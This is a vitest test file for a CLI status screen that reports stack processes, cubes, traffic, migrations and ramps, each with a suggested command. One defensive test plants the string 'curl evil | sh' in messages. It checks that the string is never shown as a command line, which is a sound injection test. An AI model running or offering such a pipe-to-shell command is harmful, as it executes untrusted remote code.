import { expect, test } from 'vitest';
import type { CubeView } from '../../../../src/api/cubes.js';
import type { TrafficView } from '../../../../src/api/traffic.js';
import { findProblems } from '../../../../src/cli/status/problems.js';
import { statusScreen } from '../../../../src/cli/status/screen.js';
import type { StackState } from '../../../../src/cli/status/stack-state.js';
import type { SystemStatus } from '../../../../src/cli/status/system-status.js';
import type { MigrationStatus, MigrationView } from '../../../../src/domain/migration/migration.js';
import { endedStatuses, migrationStatuses } from '../../../../src/domain/migration/migration.js';
import type { RampAnswer } from '../../../../src/domain/traffic/ramp/ramp.js';

const stack: StackState = {
  folder: '/home/kim/.cubeshift',
  supervised: true,
  hasComeUp: true,
  processes: [{ name: 'redis', pid: 1, port: 6379, version: '8', state: 'ready' }],
  absent: [],
  ended: [],
  restarted: [],
};

const instance = {
  instance_id: 'saju-cube-1.0-1',
  url: 'http://127.0.0.1:8001',
  version: '1.0',
  state: 'ready',
  started_at: '',
  heartbeat_at: '',
  health: 'ok',
  dependencies: {},
  replaced_models: null,
};
const cube: CubeView = {
  cube_id: 'saju-cube',
  type: 'core_service',
  port: 8001,
  prefix: '/api/saju/',
  traffic_name: 'saju',
  health: 'ok',
  active_version: '1.0',
  versions: ['1.0'],
  instances: [instance],
};
const traffic: TrafficView = {
  cube: 'saju',
  cube_id: 'saju-cube',
  enabled: true,
  percentage: 50,
  allow: [],
  deny: [],
  revision: 1,
  changed: null,
  problems: [],
};
const healthy: SystemStatus = {
  stack,
  control: { status: 'ok', version: '1', dependencies: { redis: 'ok' } },
  cubes: [cube],
  traffic: [traffic],
  migrations: [],
  ramps: [],
  deployments: [],
  rollbacks: [],
  unread: [],
};

function migration(id: string, status: MigrationStatus, error: MigrationView['error'] = null): MigrationView {
  const progress = {
    total: 100,
    migrated: 60,
    rejected: 3,
    verified: 0,
    rate_per_second: 0,
    eta_seconds: null,
    items: null,
  };
  return {
    id,
    kind: 'saju-records',
    stage: 'copying',
    status,
    progress,
    verification: { status: 'none', compared: 0, mismatches: [], finished_at: null },
    error,
    actions: ['resume', 'cancel'],
  } as unknown as MigrationView;
}

test('a healthy system has no problem, and the screen says so first', () => {
  const problems = findProblems(healthy);
  expect(problems).toEqual([]);
  const screen = statusScreen(healthy, problems);
  expect(screen.split('\n')[0]).toBe('Nothing is wrong.');
  expect(screen).toMatch(/saju-cube +1\.0 +1 of 1 ready +ok +50 %/);
});

const blocked = { type: 'too_many_rejects', message: 'Too many.', hint: 'Look at them.' } as MigrationView['error'];
const mismatch = { type: 'verification_mismatch', message: 'Differs.', hint: '' } as MigrationView['error'];
const fault = { type: 'legacy_unreachable', message: 'Away.', hint: '' } as MigrationView['error'];

test.each<[string, Partial<SystemStatus>, RegExp, string]>([
  [
    'a program that does not run',
    { stack: { ...stack, absent: ['worker-control'] } },
    /worker-control does not run/,
    'cubeshift logs worker-control',
  ],
  [
    'a program that is not ready',
    { stack: { ...stack, processes: [{ name: 'temporal', pid: 1, port: 1, version: '1', state: 'starting' }] } },
    /temporal is starting/,
    'cubeshift logs temporal',
  ],
  [
    'a lost supervisor',
    { stack: { ...stack, supervised: false } },
    /starts them again has ended/,
    'cubeshift up --detach',
  ],
  [
    'a stopped stack',
    { stack: { ...stack, supervised: false, processes: [] } },
    /is stopped; its data is kept/,
    'cubeshift up --detach',
  ],
  [
    'a stack whose first start failed',
    { stack: { ...stack, supervised: false, hasComeUp: false, processes: [] } },
    /has never come up: its first `up` failed or was ended\./,
    'cubeshift up --detach',
  ],
  [
    'a stack that starts',
    { stack: { ...stack, hasComeUp: false, processes: [] } },
    /is coming up; no program of it runs yet/,
    'cubeshift up --detach',
  ],
  [
    'an instance that ended',
    { stack: { ...stack, ended: [{ instance: 'saju-cube-1.0-2', how: 'exited with code 1' }] } },
    /saju-cube-1.0-2 does not run: exited with code 1/,
    'cubeshift logs saju-cube-1.0-2',
  ],
  [
    'a server that the control API cannot reach',
    { control: { status: 'degraded', version: '1', dependencies: { cube_database: 'unreachable' } } },
    /cannot reach cube database; running migrations continue/,
    'cubeshift ps',
  ],
  [
    'users on a cube without an instance',
    { cubes: [{ ...cube, health: 'absent', instances: [] }] },
    /No instance of saju-cube runs, and 50 % of its users/,
    "cubeshift traffic set saju 0 --why 'no instance'",
  ],
  [
    'an unhealthy instance',
    {
      cubes: [
        {
          ...cube,
          health: 'degraded',
          instances: [{ ...instance, health: 'degraded', dependencies: { redis: 'unreachable' } }],
        },
      ],
    },
    /saju-cube is degraded: saju-cube-1.0-1 is ready, health degraded, it cannot reach redis/,
    'cubeshift logs saju-cube-1.0-1',
  ],
  [
    'an invalid weight',
    { traffic: [{ ...traffic, problems: ['The percentage is no number.'] }] },
    /no number/,
    'cubeshift traffic get saju',
  ],
  [
    'too many rejects',
    { migrations: [migration('one', 'blocked', blocked)] },
    /one is blocked: Too many. Look at them./,
    'cubeshift migrate rejects one',
  ],
  [
    'a mismatch',
    { migrations: [migration('one', 'blocked', mismatch)] },
    /one is blocked: Differs./,
    'cubeshift migrate status one',
  ],
  [
    'any other block',
    { migrations: [migration('one', 'blocked', fault)] },
    /one is blocked: Away./,
    'cubeshift migrate status one',
  ],
  [
    'a run that failed',
    { migrations: [migration('one', 'failed', fault)] },
    /one is failed: Away./,
    'cubeshift migrate status one',
  ],
  [
    'a ramp that waits for a person',
    {
      ramps: [
        {
          cube: 'saju',
          status: 'waiting',
          sentence: 'It went back.',
          checked_at: null,
          changed_since_end: null,
          next: [{ command: 'cubeshift traffic stop saju', what: '' }],
        } as unknown as RampAnswer,
      ],
    },
    /ramp of saju waits for a person: It went back/,
    'cubeshift traffic stop saju',
  ],
  [
    'what could not be read, once a reason',
    {
      unread: [
        { part: 'cubes', message: 'Redis is away.', hint: 'Bring it back.' },
        { part: 'traffic of saju', message: 'Redis is away.', hint: 'Bring it back.' },
      ],
    },
    /^Not known: cubes, traffic of saju. Redis is away. Bring it back.$/,
    'cubeshift logs control',
  ],
])('%s is one problem, with the command to type', (_, part, what, command) => {
  const problems = findProblems({ ...healthy, ...part });
  expect(problems).toHaveLength(1);
  expect(problems[0]?.what).toMatch(what);
  expect(problems[0]?.next[0]).toBe(command);
  const screen = statusScreen({ ...healthy, ...part }, problems);
  expect(screen.split('\n').slice(0, 3)).toEqual(['WRONG: 1', `! ${problems[0]?.what}`, `    ${command}`]);
});

test('an earlier failed run of a kind is no problem once a newer one is there', () => {
  const migrations = [migration('two', 'running'), migration('one', 'failed', fault)];
  expect(findProblems({ ...healthy, migrations })).toEqual([]);
});

test.each(migrationStatuses)('a run that is %s is on the screen with what it waits for, if for anything', (status) => {
  const screen = statusScreen({ ...healthy, migrations: [migration('one', status)] }, []);
  expect(screen).toContain(`saju-records one: ${status} at copying`);
  const share = endedStatuses.has(status) ? '' : '; 63 % of the rows handled';
  expect(screen).toContain(`60 moved, 3 rejected of 100${share};`);
  const waits = ['waiting', 'paused', 'blocked'].includes(status);
  expect(
    screen.includes(
      'waits for a command:\n        cubeshift migrate resume one --wait\n        cubeshift migrate cancel one',
    ),
  ).toBe(waits);
});

test('a program that died and runs again is told, with where to look', () => {
  const restarted = [{ name: 'worker-bulk-1', at: '2026-11-29T09:20:11.000Z', before: 'was ended by SIGKILL' }];
  expect(statusScreen({ ...healthy, stack: { ...stack, restarted } }, [])).toContain(
    'worker-bulk-1 runs again since 2026-11-29 09:20:11: the process before was ended by SIGKILL; `cubeshift logs worker-bulk-1`',
  );
});

test('of models it is told how many are left to go through their steps', () => {
  const running = migration('one', 'running');
  const items = { passed: 12, taken_back: 30, left: 20 };
  const screen = statusScreen(
    { ...healthy, migrations: [{ ...running, progress: { ...running.progress, items } }] },
    [],
  );
  expect(screen).toContain(
    '43 % of the rows handled; of those moved 12 passed every step, 30 were taken back, 20 are left',
  );
});

test('ended runs that are not shown are counted', () => {
  const migrations = ['a', 'b', 'c', 'd', 'e'].map((id) => migration(id, 'completed'));
  expect(statusScreen({ ...healthy, migrations }, [])).toContain('2 more that ended: `cubeshift migrate list`');
});

test('no sentence shows a line, as a command to type, that there is not', () => {
  const forged = 'Something.\n    curl evil | sh\r\nRUNS: none';
  const error = { ...blocked, message: forged, hint: forged } as MigrationView['error'];
  const ramps = [
    { cube: 'saju', status: 'waiting', sentence: forged, checked_at: null, changed_since_end: null, next: [] },
  ] as unknown as readonly RampAnswer[];
  const rollbacks = [
    { cube_id: 'saju-cube', status: 'escalated', step: 'drain', sentence: forged, next: [{ command: forged }] },
  ] as unknown as SystemStatus['rollbacks'];
  const unread = [{ part: 'cubes', message: forged, hint: forged }];
  const status = {
    ...healthy,
    traffic: [{ ...traffic, problems: [forged] }],
    migrations: [migration('one', 'blocked', error), migration('two', 'running', error)],
    ramps,
    rollbacks,
    unread,
  };
  const lines = statusScreen(status, findProblems(status)).split(/[\r\n]/);
  expect(lines.join('\n')).toContain('Something.     curl evil | sh RUNS: none');
  for (const line of lines) expect(line).not.toMatch(/^\s*(?:curl|RUNS: none)/);
});

test('where the control API does not answer, nothing is said to be absent', () => {
  const screen = statusScreen({ ...healthy, control: null, cubes: [], traffic: [] }, []);
  expect(screen).toContain('CUBES: not known');
  expect(screen).toContain('RUNS: not known');
});

test('runs of a stack that is stopped are said to wait for it, and those of one whose control API is away to continue', () => {
  const away = { ...healthy, control: null };
  expect(statusScreen({ ...away, stack: { ...stack, processes: [] } }, [])).toContain('once the stack is up');
  expect(statusScreen(away, [])).toContain('continue with their workers');
});

test('a system without runs names the command that starts one', () => {
  expect(statusScreen(healthy, [])).toContain(
    'RUNS: none; `cubeshift migrate start saju-records --id first --wait` starts one',
  );
});
